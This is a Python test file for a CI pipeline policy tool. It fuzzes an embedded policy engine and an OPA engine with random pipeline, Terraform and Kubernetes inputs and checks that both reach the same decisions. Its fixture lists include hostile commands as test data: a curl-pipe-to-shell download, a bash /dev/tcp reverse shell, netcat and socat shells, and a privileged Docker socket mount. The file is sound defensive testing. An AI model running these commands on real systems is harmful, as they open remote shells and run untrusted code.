"""Both engines say the same of every rule, whatever it is given: what differs would be a decision by chance."""

from __future__ import annotations

import json
import random
from typing import Any

import pytest

from policyd.adapters.engines.embedded import EmbeddedEngine
from policyd.adapters.engines.opa import OpaEngine
from policyd.models.decision import Gate
from policyd.policy.policy_set import PolicySet

TEXTS = [
    "",
    "curl -k https://x.example | sh",
    "bash -i >& /dev/tcp/203.0.113.9/1 0>&1",
    'echo "$TOKEN" >> $GITHUB_ENV',
    "export LD_PRELOAD=./x.so PATH=.:/bin",
    "git -c http.sslVerify=false clone http://example.com/x",
    "docker run --privileged -v /var/run/docker.sock:/s x",
    "é\u2028\u202eλ ☃",
    "::set-output name=x::y",
    "${{ secrets.TOKEN }} ${{ x }}",
    "fromJSON(secrets.X).y",
    "pip install requests==2",
    "a\nb\tc",
    "$(",
    "[[[",
    "GOSUMDB=off go build",
    "%s%d%v%",
    "\\",
]
WORDS = [
    "curl",
    "wget",
    "sh",
    "bash",
    "-c",
    "-k",
    "-fsSLk",
    "$CMD",
    "${X}",
    "eval",
    "pip",
    "install",
    "-r",
    "requests",
    "npm",
    "http://example.com/x",
    "https://x",
    "docker",
    "run",
    "--privileged",
    "nc",
    "-e",
    "/bin/sh",
    "python3",
    "-m",
    "pip",
    "-",
    "pytest",
    "true",
    "true",
    ":",
    "set",
    "-x",
    "env",
    "é",
    "",
    "-o",
    "/dev/null",
    "git",
    "go",
    "x@latest",
    "socat",
    "EXEC:/bin/sh",
]
COMMANDS = [
    ["echo", "$TOKEN"],
    ["printenv"],
    ["eval", "$CMD"],
    ["bash", "-c", "$X"],
    ["pytest"],
    ["true"],
    ["set", "-x"],
]
NAMES = [
    "TOKEN",
    "DEPLOY_PASSWORD",
    "LD_PRELOAD",
    "PATH",
    "NODE_OPTIONS",
    "GIT_SSL_NO_VERIFY",
    "NODE_TLS_REJECT_UNAUTHORIZED",
    "ACTIONS_STEP_DEBUG",
    "ACTIONS_ALLOW_UNSECURE_COMMANDS",
    "PIP_INDEX_URL",
    "GOSUMDB",
    "password",
    "é",
    "",
]
VALUES = [
    "true",
    "1",
    "0",
    "off",
    "",
    ".:/bin",
    "--require ./x",
    "http://u@example.com/simple",
    "9f8e7d6c5b4a39281706",
    "${{ secrets.TOKEN }}",
    "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345",
    "é",
    "./x.so",
]

#: What chance does not put together here; the rules' own tests compare them on both engines.
NEVER_BY_CHANCE = {"permissions.excessive"}


def facts(chance: random.Random) -> dict[str, Any]:
    """Facts as the front ends could hand them over, in every combination of flags and odd words."""

    def flag() -> bool:
        return chance.random() < 0.5

    def some(make: Any, name: str, most: int = 4) -> list[dict[str, Any]]:
        return [
            {**make(), "at": [name, index], "stage": chance.choice(["", "a", "a", "a", "b"])}
            for index in range(chance.randrange(most))
        ]

    def command() -> dict[str, Any]:
        argv = chance.choice(COMMANDS) if flag() else chance.choices(WORDS, k=chance.randrange(1, 6))
        return {
            "text": chance.choice([*TEXTS, " ".join(argv)]),
            "program": argv[0],
            "argv": argv,
            "pipes_to": chance.choice(["", "", "", "", "sh", "python3", "tar", "eval"]),
            "shell": "bash",
            "untrusted": flag(),
            "writes_to": chance.choice([[], [], [], ["$GITHUB_ENV"], ["${GITHUB_PATH}"], ["f"]]),
        }

    def stage(name: str) -> dict[str, Any]:
        kinds = ["", "source", "build", "test", "scan", "package", "deploy", "monitor"]
        return {
            "at": ["stages", 0],
            "name": name,
            "group": "",
            "kind": chance.choice(kinds),
            "needs": [],
            "needs_kinds": sorted(chance.sample(kinds[1:], chance.randrange(4))),
            "runner": [],
            "self_hosted": flag(),
            "environment": "",
            "target": "",
            "timeout_seconds": chance.choice([None, 60, 7200]),
            "explicit_timeout": flag(),
            "untrusted": flag(),
            "privileged": flag(),
            "outputs": chance.choice([[], ["x"]]),
            "results": chance.choice([[], ["junit"], ["sarif"]]),
            "has_source": flag(),
        }

    return {
        "stages": [stage(name) for name in ("a", "b")[: chance.randrange(3)]],
        "triggers": some(
            lambda: {
                "event": chance.choice(["push", "pull_request_target", "workflow_run"]),
                "trust": chance.choice(["trusted", "untrusted"]),
                "privileged": flag(),
            },
            "triggers",
        ),
        "references": some(
            lambda: {
                "text": chance.choice([*TEXTS, "http://example.com/ci.yml", "actions/checkout@v4"]),
                "kind": chance.choice(["action", "workflow", "image", "include", "tool"]),
                "owner": "",
                "name": "",
                "ref": "",
                "local": flag(),
                "pinned": flag(),
            },
            "references",
        ),
        "commands": some(command, "commands", 8),
        "expressions": some(
            lambda: {
                "text": chance.choice(TEXTS),
                "contexts": [],
                "untrusted": flag(),
                "sink": chance.choice(["script", "environment"]),
                "always_true": flag(),
            },
            "expressions",
        ),
        "checkouts": some(
            lambda: {"text": "c", "ref": "", "untrusted": flag(), "persists_credentials": flag()}, "checkouts"
        ),
        "permissions": some(
            lambda: {
                "scope": chance.choice(["contents", "actions", "é"]),
                "access": chance.choice(["read", "write", "none"]),
                "explicit": flag(),
                "level": chance.choice(["pipeline", "stage"]),
            },
            "permissions",
        ),
        "secrets": some(lambda: {"name": "X", "all": flag(), "inherited": flag(), "sink": "environment"}, "secrets"),
        "variables": some(
            lambda: {
                "name": chance.choice(NAMES),
                "value": chance.choice([*VALUES, *TEXTS, *["${{ secrets.TOKEN }}"] * 5]),
                "literal": flag(),
                "origin": chance.choice(["environment", "environment", "input", "credentials"]),
            },
            "variables",
            6,
        ),
        "containers": some(
            lambda: {
                "image": "i",
                "options": chance.choice([*TEXTS, "--privileged", "--cap-add=ALL", "-v /:/h"]),
                "privileged": flag(),
                "volumes": chance.choice([[], ["/var/run/docker.sock:/s"], ["/home/x:/x"], ["é"]]),
            },
            "containers",
        ),
        "conditions": some(
            lambda: {"text": chance.choice(TEXTS), "always_true": flag(), "spoofable_actor": flag()}, "conditions"
        ),
    }


def anything(chance: random.Random, depth: int = 0) -> Any:
    """A JSON value of any shape."""
    keys = ["kind", "metadata", "name", "spec", "containers", "items", "change", "after", "type", "image", "privileged"]
    leaves = [None, True, False, 0, 1.5, -1, "", "Pod", "List", "aws_s3_bucket", "delete", "0.0.0.0/0", "é", "ALL"]
    if depth > 3 or chance.random() < 0.4:
        return chance.choice(leaves)
    if chance.random() < 0.4:
        return [anything(chance, depth + 1) for _ in range(chance.randrange(3))]
    return {key: anything(chance, depth + 1) for key in chance.sample(keys, chance.randrange(5))}


def infrastructure(chance: random.Random) -> Any:
    """A Terraform plan or Kubernetes manifests, in which anything may stand in the place of any part."""

    def part(value: Any) -> Any:
        return anything(chance) if chance.random() < 0.08 else value

    def pick(*choices: Any) -> Any:
        return part(chance.choice(choices))

    def rule() -> dict[str, Any]:
        return {
            "type": pick("ingress", "egress"),
            "from_port": pick(22, 0, 443),
            "to_port": pick(22, 65535, 443),
            "protocol": pick("tcp", "-1"),
            "cidr_blocks": pick(["0.0.0.0/0"], ["10.0.0.0/8"], []),
            "ipv6_cidr_blocks": pick(None, ["::/0"]),
        }

    def change() -> dict[str, Any]:
        kind, after = chance.choice(
            [
                ("aws_s3_bucket", {"acl": pick("private", "public-read")}),
                ("aws_s3_bucket_public_access_block", {"block_public_acls": pick(True, False)}),
                ("google_storage_bucket_iam_binding", {"members": pick(["allUsers"], ["user:a@example.com"])}),
                ("google_storage_bucket_iam_member", {"member": pick("allUsers", "user:a@example.com")}),
                ("azurerm_storage_container", {"container_access_type": pick("blob", "private")}),
                ("aws_security_group", {"ingress": part([part(rule())])}),
                ("aws_security_group_rule", rule()),
                (
                    "aws_vpc_security_group_ingress_rule",
                    {"cidr_ipv4": pick("0.0.0.0/0"), "ip_protocol": pick("tcp", "-1")},
                ),
                (
                    "google_compute_firewall",
                    {
                        "source_ranges": pick(["0.0.0.0/0"]),
                        "allow": part([part({"ports": part([pick("22", "80-90")])})]),
                    },
                ),
                ("aws_db_instance", {"storage_encrypted": pick(True, False)}),
                ("aws_ebs_volume", {"encrypted": pick(True, False, None)}),
            ]
        )
        return {
            "address": part(f"{kind}.x"),
            "type": part(kind),
            "change": part({"actions": pick(["create"], ["delete"], ["delete", "create"]), "after": part(after)}),
        }

    def container() -> dict[str, Any]:
        return {
            "name": "a",
            "image": pick("web:1", f"web@sha256:{'0' * 64}"),
            "securityContext": part(
                {"privileged": pick(True, False), "capabilities": part({"add": pick(["ALL"], [])})}
            ),
            "resources": part({"limits": part({"memory": pick("1Gi", None)})}),
        }

    def workload() -> Any:
        spec = {
            "hostPID": pick(True, False),
            "containers": part([part(container())]),
            "initContainers": part([part(container())]),
            "volumes": part([part({"hostPath": part({"path": "/"})})]),
        }
        kind = chance.choice(["Pod", "Deployment", "CronJob"])
        inner: dict[str, Any] = {
            "Pod": {"spec": spec},
            "Deployment": {"spec": {"template": {"spec": spec}}},
            "CronJob": {"spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}},
        }[kind]
        found = {"kind": part(kind), "metadata": part({"name": part("web")}), **inner}
        return {"kind": "List", "items": part([part(found)])} if chance.random() < 0.2 else found

    if chance.random() < 0.5:
        return part({"resource_changes": part([part(change()) for _ in range(3)])})
    return part([part(workload()) for _ in range(chance.randrange(3))]) if chance.random() < 0.7 else part(workload())


def evidence(chance: random.Random) -> dict[str, Any]:
    """Evidence, decisions and results as the stage and release gates see them; results of any shape."""

    def pick(*choices: Any) -> Any:
        return chance.choice(choices)

    def entry() -> dict[str, Any]:
        return {
            "stage": pick("build", "test"),
            "kind": pick("build", "test"),
            "state": pick("succeeded", "succeeded", "failed"),
            "definition_sha256": "d",
            "run_id": pick("r1", "r1", "r2"),
            "plan_sha256": pick("p1", "p1", "p2"),
            "predicate_types": pick([], ["https://slsa.dev/provenance/v1"]),
            "signers": [],
            "products": pick(
                [], [{"output": "wheel", "path": "x", "type": "f", "sha256": pick("d1", "d2"), "size": 1}]
            ),
            "results": pick(
                [],
                [
                    {
                        "name": "n",
                        "kind": pick("junit", "sarif", "sbom"),
                        "path": "x",
                        "sha256": "d",
                        "passed": pick(True, False, None),
                        "counts": pick({}, {"error": 0}, {"error": 3}),
                    }
                ],
            ),
            "sandbox": pick("bwrap", "none", ""),
        }

    return {
        "run_id": "r1",
        "governance": pick("self", "operator"),
        "target": "local",
        "requester": {"identity": "me", "verified": pick(True, False)},
        "plan": {
            "sha256": "p1",
            "sandbox": pick("bwrap", "none"),
            "source": {"sha256": "s", "files": 1, "commit": pick(None, "c"), "clean": pick(None, True, False)},
        },
        "stage": {
            "name": "release",
            "kind": pick("deploy", "deploy", "package", "scan"),
            "needs": pick([], ["build"], ["build", "test"]),
            "products": pick([], ["build.wheel"], ["test.log"]),
        },
        "artifact": {"name": "x", "sha256": "d1", "stage": "build", "output": "wheel", "type": "f"},
        "evidence": [entry() for _ in range(chance.randrange(4))],
        "decisions": [
            {
                "gate": pick("pipeline", "stage"),
                "verdict": pick("allow", "allow", "deny"),
                "stage": pick("", "build", "test"),
                "sha256": "d",
                "weakened": pick([], ["x"]),
            }
            for _ in range(chance.randrange(4))
        ],
        "results": [{"stage": "a", "name": "r", "kind": "json", "document": infrastructure(chance)} for _ in range(3)],
    }


def ordered(value: object) -> object:
    return sorted(value, key=json.dumps) if isinstance(value, list) else value


@pytest.mark.parametrize("gate", list(Gate))
def test_every_rule_answers_alike_whatever_it_is_given(
    gate: Gate, library: PolicySet, embedded: EmbeddedEngine, opa_engine: OpaEngine
) -> None:
    rules = [rule for rule in library.catalogue.values() if rule.gate is gate]
    entrypoints = [rule.entrypoint for rule in rules]
    fired: set[str] = set()
    chance = random.Random(f"policyd {gate}")

    for _ in range(150):
        document = facts(chance) if gate is Gate.PIPELINE else evidence(chance)
        content = json.dumps(document).encode()
        ours, theirs = embedded.query(entrypoints, content), opa_engine.query(entrypoints, content)
        for entrypoint in entrypoints:
            assert ours[entrypoint].error is None, (entrypoint, document)
            assert theirs[entrypoint].error is None, (entrypoint, document)
            assert ordered(ours[entrypoint].value) == ordered(theirs[entrypoint].value), (entrypoint, document)
            if ours[entrypoint].value:
                fired.add(entrypoint)

    # Inputs that no rule minds would compare nothing.
    silent = {entrypoint.split(".", 1)[1].removesuffix(".deny") for entrypoint in set(entrypoints) - fired}
    assert silent <= NEVER_BY_CHANCE, silent
